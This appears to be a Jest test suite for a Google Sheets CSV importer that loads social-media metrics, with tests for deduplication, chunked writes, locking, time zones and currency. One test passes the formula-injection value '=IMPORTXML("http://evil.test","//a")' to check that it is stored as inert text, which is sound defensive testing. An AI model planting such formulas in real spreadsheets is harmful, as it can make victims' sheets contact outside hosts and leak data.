import { analyseTable, prepareImport } from '../../src/import/analyse';
import { chunkRequests } from '../../src/import/protocol';
import { readCsvBytes } from '../../src/import/read';
import { importCsvRows, showImportDialog } from '../../src/import/server';
import { canonicalHeaders, headerCurrency } from '../../src/import/targets';
import { CURRENCY_PROPERTY } from '../../src/report/currency';
import { createWorld, shrinkGrid, type World } from '../support/world';
import { fixtureBytes } from './helpers';

/** The whole path the dialog takes: read, prepare with proposals, send chunk by chunk. */
function importFixture(
  book: World,
  name: string,
  limits?: { rows: number; bytes: number },
  currency?: string,
) {
  const read = readCsvBytes(fixtureBytes(name));
  if (!read.ok) throw new Error(read.message);
  const analysis = analyseTable(read.table, read.delimiter);
  const prepared = prepareImport(read.table, analysis, {
    targets: analysis.mapping.map((column) => column.target),
    channel: analysis.channel,
  });
  const requests = chunkRequests(
    prepared.columns,
    prepared.rows.map((row) => row.cells),
    prepared.rows.map((row) => row.row),
    limits,
  );
  return requests.map((request) =>
    importCsvRows(book.services, currency === undefined ? request : { ...request, currency }),
  );
}

describe('importCsvRows on the shared fakes', () => {
  it('creates the tab with the canonical headers and writes header and rows in one setValues', () => {
    const book = createWorld('hochiminh-en');
    const [result] = importFixture(book, 'tiktok-overview.csv');
    expect(result).toEqual({ ok: true, added: 3, skipped: [], addedColumns: [], createdSheet: true });
    expect(book.gas.calls.count('Range.setValues')).toBe(1);
    expect(book.gas.calls.count('Range.getValues')).toBe(0);
    expect(book.gas.locks.isHeld()).toBe(false);
    const values = book.dataValues();
    const header = canonicalHeaders();
    expect(values[0]).toEqual(header);
    const at = (row: number, name: string) => values[row][header.indexOf(name)];
    expect(
      ['Date', 'Channel', 'Impressions', 'Likes', 'Profile visits', 'Saves'].map((name) => at(1, name)),
    ).toEqual(['2026-10-01', 'TikTok', 5820, 640, 212, '']);
  });

  it('adds nothing when the same file is imported again, and says why for each row', () => {
    const book = createWorld('hochiminh-en');
    importFixture(book, 'meta-facebook-posts.csv');
    const before = book.dataValues();
    const [again] = importFixture(book, 'meta-facebook-posts.csv');
    expect(again).toEqual({
      ok: true,
      added: 0,
      skipped: [2, 3, 4].map((row) => ({
        row,
        reason: 'already in the sheet (same date, channel and post)',
      })),
      addedColumns: [],
      createdSheet: false,
    });
    expect(book.gas.calls.count('Range.getValues')).toBe(1);
    expect(book.gas.calls.count('Range.setValues')).toBe(0);
    expect(book.dataValues()).toEqual(before);
  });

  // Every sample, platform exports and the sheets of our own headers: the second import of the same
  // file adds nothing and names each row it skipped; files without post ids dedupe on date + channel.
  it.each([
    ['meta-facebook-posts.csv', 3],
    ['meta-instagram-posts.csv', 3],
    ['linkedin-page-metrics.csv', 3],
    ['tiktok-overview.csv', 3],
    ['x-account-overview.csv', 3],
    ['kpi-data-swedish.csv', 3],
    ['kpi-data-swedish-dates.csv', 6],
    ['kpi-data-swedish-months.csv', 3],
    ['kpi-data-vietnamese-utf16.csv', 3],
    ['kpi-data-vietnamese-dates.csv', 7],
  ])('re-importing %s adds none of its %i rows twice', (name, rows) => {
    const book = createWorld('hochiminh-en');
    const [first] = importFixture(book, name);
    expect(first).toMatchObject({ ok: true, added: rows, skipped: [] });
    const before = book.dataValues();
    expect(before).toHaveLength(rows + 1);
    const [again] = importFixture(book, name);
    expect(again).toMatchObject({ ok: true, added: 0 });
    const skipped = again.ok ? again.skipped : [];
    expect(skipped).toHaveLength(rows);
    expect(new Set(skipped.map((row) => row.reason))).toEqual(
      new Set(['already in the sheet (same date, channel and post)']),
    );
    expect(book.dataValues()).toEqual(before);
  });

  it('adds only the new rows of a longer export of the same account, and counts both', () => {
    const book = createWorld('hochiminh-en');
    importFixture(book, 'tiktok-overview.csv');
    const longer =
      'Date,Video Views,Profile Views,Likes,Comments,Shares\n' +
      '2026-10-02,14230,530,1802,96,77\n2026-10-03,3110,98,301,12,5\n2026-10-04,4100,120,390,20,9\n';
    const read = readCsvBytes(new TextEncoder().encode(longer));
    if (!read.ok) throw new Error(read.message);
    const analysis = analyseTable(read.table, read.delimiter);
    const prepared = prepareImport(read.table, analysis, {
      targets: analysis.mapping.map((column) => column.target),
      channel: analysis.channel,
    });
    const [request] = chunkRequests(
      prepared.columns,
      prepared.rows.map((row) => row.cells),
      prepared.rows.map((row) => row.row),
    );
    expect(importCsvRows(book.services, request)).toEqual({
      ok: true,
      added: 1,
      skipped: [2, 3].map((row) => ({ row, reason: 'already in the sheet (same date, channel and post)' })),
      addedColumns: [],
      createdSheet: false,
    });
    expect(book.dataValues().map((row) => row[0])).toEqual([
      'Date',
      '2026-10-01',
      '2026-10-02',
      '2026-10-03',
      '2026-10-04',
    ]);
  });

  it('keeps long numeric post ids exactly (as text), so re-imports still match them', () => {
    const book = createWorld('hochiminh-en');
    importFixture(book, 'meta-instagram-posts.csv');
    const header = canonicalHeaders();
    expect(
      book
        .dataValues()
        .slice(1)
        .map((row) => row[header.indexOf('Post ID')]),
    ).toEqual(['17990011223344556', '17990011223344557', '17990011223344558']);
    expect(importFixture(book, 'meta-instagram-posts.csv')[0]).toMatchObject({ ok: true, added: 0 });
  });

  it('reads existing dates in the spreadsheet’s time zone, not UTC', () => {
    // Stored as midnight 5 October in UTC+7, which is 4 October in UTC.
    const book = createWorld('hochiminh-en', {
      data: [
        ['Date', 'Channel', 'Likes'],
        ['2026-10-05', 'Facebook', 1],
      ],
    });
    expect(book.dataSheet()!.getRange(2, 1).getValue()).toBeInstanceOf(Date);
    book.gas.calls.reset();
    const result = importCsvRows(book.services, {
      columns: ['date', 'channel', 'likes'],
      rows: [
        ['2026-10-05', 'facebook', 2],
        ['2026-10-04', 'Facebook', 3],
      ],
      rowNumbers: [2, 3],
    });
    expect(result).toMatchObject({
      ok: true,
      added: 1,
      skipped: [{ row: 2, reason: expect.stringMatching(/already/) }],
    });
  });

  it('keeps the user’s columns and their order, and appends only the columns the tab lacks', () => {
    const book = createWorld('hochiminh-en', {
      data: [
        ['Notes', 'Kanal', 'Datum', 'Gilla-markeringar'],
        ['my note', 'LinkedIn', '2026-09-30', 7],
      ],
    });
    const [result] = importFixture(book, 'linkedin-page-metrics.csv');
    expect(result).toMatchObject({
      ok: true,
      added: 3,
      addedColumns: ['Impressions', 'Comments', 'Shares', 'Clicks'],
    });
    // One read; one write for the new header cells and one for the rows.
    expect(book.gas.calls.count('Range.getValues')).toBe(1);
    expect(book.gas.calls.count('Range.setValues')).toBe(2);
    const values = book.dataValues();
    expect(values[0]).toEqual([
      'Notes',
      'Kanal',
      'Datum',
      'Gilla-markeringar',
      'Impressions',
      'Comments',
      'Shares',
      'Clicks',
    ]);
    expect(values[1]).toEqual(['my note', 'LinkedIn', '2026-09-30', 7, '', '', '', '']);
    expect(values[2]).toEqual(['', 'LinkedIn', '2026-10-01', 31, 812, 4, 2, 25]);
  });

  it('sends big imports in chunks: one read and one write per chunk, no duplicates across chunks', () => {
    const book = createWorld('hochiminh-en');
    const results = importFixture(book, 'meta-instagram-posts.csv', { rows: 1, bytes: 1e6 });
    expect(results.map((result) => result.ok && result.added)).toEqual([1, 1, 1]);
    // The first call creates the tab (nothing to read); each later call reads once and writes once.
    expect(book.gas.calls.count('Range.getValues')).toBe(2);
    expect(book.gas.calls.count('Range.setValues')).toBe(3);
    expect(book.gas.calls.count('Lock.tryLock')).toBe(3);
    expect(book.dataValues()).toHaveLength(4);
  });

  it('writes text that looks like a formula, a number or a sign as text', () => {
    const book = createWorld('hochiminh-en');
    const result = importCsvRows(book.services, {
      columns: ['date', 'channel', 'post_id', 'likes'],
      rows: [
        ['2026-10-01', '=IMPORTXML("http://evil.test","//a")', '+46701234567', 1],
        ['2026-10-01', '@team', '-1', 2],
        ['2026-10-01', 'X', '1234567890123456789', 3],
      ],
      rowNumbers: [2, 3, 4],
    });
    expect(result).toMatchObject({ ok: true, added: 3 });
    const sheet = book.dataSheet()!;
    const range = sheet.getRange(2, 2, 3, 2);
    expect(range.getFormulas()).toEqual([
      ['', ''],
      ['', ''],
      ['', ''],
    ]);
    expect(range.getValues()).toEqual([
      ['=IMPORTXML("http://evil.test","//a")', '+46701234567'],
      ['@team', '-1'],
      ['X', '1234567890123456789'],
    ]);
  });

  it('says the sheet is busy when a teammate’s import holds the lock, and touches nothing', () => {
    const book = createWorld('hochiminh-en');
    book.gas.locks.holdBy('teammate');
    const result = importCsvRows(book.services, {
      columns: ['date', 'channel'],
      rows: [['2026-10-01', 'X']],
      rowNumbers: [2],
    });
    expect(result).toEqual({
      ok: false,
      message: expect.stringMatching(/Someone else is changing the data sheet/),
    });
    // Only the locale is read, to word the answer in the sheet's language.
    expect(book.gas.calls.count('Spreadsheet')).toBe(1);
    expect(book.gas.calls.count('Spreadsheet.getSpreadsheetLocale')).toBe(1);
    expect(book.gas.locks.attempts).toEqual([
      { kind: 'document', method: 'tryLock', timeoutMs: 10_000, acquired: false },
    ]);
  });

  it('refuses requests it cannot read, and rows with bad cells one by one', () => {
    const book = createWorld('hochiminh-en');
    expect(
      importCsvRows(book.services, { columns: ['date', 'nonsense'], rows: [], rowNumbers: [] }),
    ).toMatchObject({ ok: false });
    expect(importCsvRows(book.services, null)).toMatchObject({ ok: false });
    const result = importCsvRows(book.services, {
      columns: ['date', 'channel', 'likes'],
      rows: [
        ['2026-13-01', 'X', 1],
        ['2026-10-01', '', 1],
        ['2026-10-01', 'X', 'many'],
        ['2026-10-01', 'X', 1],
        ['2026-10-01', 'x', 2],
      ],
      rowNumbers: [2, 3, 4, 5, 6],
    });
    expect(result).toEqual({
      ok: true,
      added: 1,
      skipped: [
        { row: 2, reason: 'the row could not be read' },
        { row: 3, reason: 'the row could not be read' },
        { row: 4, reason: 'the row could not be read' },
        { row: 6, reason: 'the same date, channel and post as row 5' },
      ],
      addedColumns: [],
      createdSheet: true,
    });
    expect(book.gas.locks.isHeld()).toBe(false);
  });

  it('grows the grid before writing past it', () => {
    const book = createWorld('hochiminh-en', { data: [['Date', 'Channel']] });
    shrinkGrid(book.dataSheet()!, 1, 2);
    const result = importCsvRows(book.services, {
      columns: ['date', 'channel', 'likes'],
      rows: [
        ['2026-10-01', 'X', 1],
        ['2026-10-02', 'X', 2],
      ],
      rowNumbers: [2, 3],
    });
    expect(result).toMatchObject({ ok: true, added: 2, addedColumns: ['Likes'] });
    expect(book.dataValues()).toEqual([
      ['Date', 'Channel', 'Likes'],
      ['2026-10-01', 'X', 1],
      ['2026-10-02', 'X', 2],
    ]);
  });

  it('opens the dialog from the built page', () => {
    const book = createWorld('hochiminh-en', { html: { files: { 'import.html': '<p>dialog</p>' } } });
    showImportDialog(book.services);
    expect(book.gas.ui.dialogs.at(-1)).toMatchObject({ kind: 'modal', title: 'Import CSV' });
  });
});

describe('the currency of an import', () => {
  const documentProperties = (book: World) => book.gas.properties.stores.document.values;

  const importWithCurrency = (book: World, name: string, currency: string) =>
    importFixture(book, name, undefined, currency)[0];

  it('proposes the currency a money header names: Meta’s “Amount spent (SEK)”', () => {
    expect(headerCurrency(['Reach', 'Amount spent (SEK)'])).toEqual({
      currency: 'SEK',
      header: 'Amount spent (SEK)',
    });
    expect(headerCurrency(['Cost (kr)'])).toBeUndefined();
    expect(headerCurrency(['Reach (total)'])).toBeUndefined();
  });

  it('becomes the spreadsheet’s currency on a first import, for every collaborator', () => {
    const book = createWorld('hochiminh-en');
    const result = importWithCurrency(book, 'meta-facebook-posts.csv', 'SEK');
    expect(result).toMatchObject({ ok: true, added: 3 });
    expect(documentProperties(book).get(CURRENCY_PROPERTY)).toBe('SEK');
    const values = book.dataValues();
    expect(values[0][values[0].length - 1]).toBe('Currency');
    // The rows need no currency of their own: they are in the spreadsheet's.
    expect(values.slice(1).map((row) => row[row.length - 1])).toEqual(['', '', '']);
  });

  it('is written into the rows of a file in another currency than the rows already there', () => {
    const book = createWorld('hochiminh-en', {
      data: [
        ['Date', 'Channel', 'Cost'],
        ['2026-09-30', 'Facebook', 120],
      ],
    });
    const result = importWithCurrency(book, 'meta-facebook-posts.csv', 'eur');
    expect(result).toMatchObject({ ok: true, added: 3, addedColumns: expect.arrayContaining(['Currency']) });
    // The spreadsheet's currency (en_US: USD) is left alone: the rows already there stay in it.
    expect(documentProperties(book).get(CURRENCY_PROPERTY)).toBeUndefined();
    const values = book.dataValues();
    const currency = values[0].indexOf('Currency');
    expect(values.map((row) => row[currency])).toEqual(['Currency', '', 'EUR', 'EUR', 'EUR']);
  });

  it('refuses a request whose currency is no currency, and skips a row whose Currency cell is none', () => {
    const book = createWorld('hochiminh-en');
    expect(
      importCsvRows(book.services, {
        columns: ['date', 'channel'],
        rows: [],
        rowNumbers: [],
        currency: 'kronor',
      }),
    ).toMatchObject({ ok: false });
    const result = importCsvRows(book.services, {
      columns: ['date', 'channel', 'cost', 'currency'],
      rows: [
        ['2026-10-01', 'Facebook', 10, 'VND'],
        ['2026-10-02', 'Facebook', 10, 'dong'],
      ],
      rowNumbers: [2, 3],
    });
    expect(result).toEqual({
      ok: true,
      added: 1,
      skipped: [{ row: 3, reason: 'Currency is “dong”, not a currency code such as SEK, VND, EUR or USD' }],
      addedColumns: [],
      createdSheet: true,
    });
  });
});
